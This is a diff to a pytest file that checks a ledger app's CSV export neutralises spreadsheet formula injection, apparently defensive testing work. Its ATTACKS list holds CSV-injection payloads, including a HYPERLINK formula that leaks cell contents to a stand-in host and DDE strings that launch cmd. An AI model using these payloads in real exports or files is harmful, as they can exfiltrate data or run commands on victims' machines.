@@ -11,19 +11,18 @@ from pathlib import Path
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from safety_helpers import NAME, PASS, TODAY, make
 
 from app.domain.entries import EntryDraft
 from app.domain.money import Money
-from app.services.ledger import LedgerService
-from app.services.profiles import open_profile
+from app.services.context import open_context
+from tests.app.safety.safety_helpers import NAME, PASS, TODAY, Cli, make
 
 ATTACKS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Refund")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            " =1+1", "＝1+1"]
 
 
-def _export(data_dir: Path, cli) -> list[list[str]]:  # type: ignore[no-untyped-def]
+def _export(data_dir: Path, cli: Cli) -> list[list[str]]:
     status, out = cli(data_dir, "entries", "list", "--profile", NAME, "--csv",
                       CARELEDGER_PASSPHRASE=PASS)
     assert status == 0
@@ -37,20 +36,20 @@ def _formula(cell: str) -> bool:
         stripped.startswith("-") and not stripped.lstrip("-").replace(".", "").isdigit())
 
 
-def test_formula_cells_are_neutralised_and_money_stays_numbers(data_dir: Path, cli) -> None:  # type: ignore[no-untyped-def]
+def test_formula_cells_are_neutralised_and_money_stays_numbers(data_dir: Path, cli: Cli) -> None:
     make(data_dir)
-    with open_profile(data_dir, NAME, PASS) as profile:
-        ledger = LedgerService(profile)
+    with open_context(data_dir, NAME, PASS) as ctx:
+        ledger = ctx.ledger
         for n, text in enumerate(ATTACKS):
             ledger.add_entry(EntryDraft(date(2025, 5, 1), Money(-(n + 1) * 1000), text,
                                         "pa_wages", text), TODAY)
     rows = _export(data_dir, cli)
-    assert rows[0] == ["date", "payee", "category", "amount", "balance", "memo"]
+    assert rows[0] == ["id", "date", "payee", "category", "amount", "balance", "memo"]
     for row in rows[1:]:
         assert not any(_formula(cell) for cell in row), row
-        assert row[1].startswith("'") and row[5].startswith("'")
-        float(row[3]), float(row[4])  # amount and balance: plain numbers
-        assert row[3].startswith("-")
+        assert row[2].startswith("'") and row[6].startswith("'")
+        float(row[4]), float(row[5])  # amount and balance: plain numbers
+        assert row[4].startswith("-")
 
 
 @settings(max_examples=300, deadline=None)
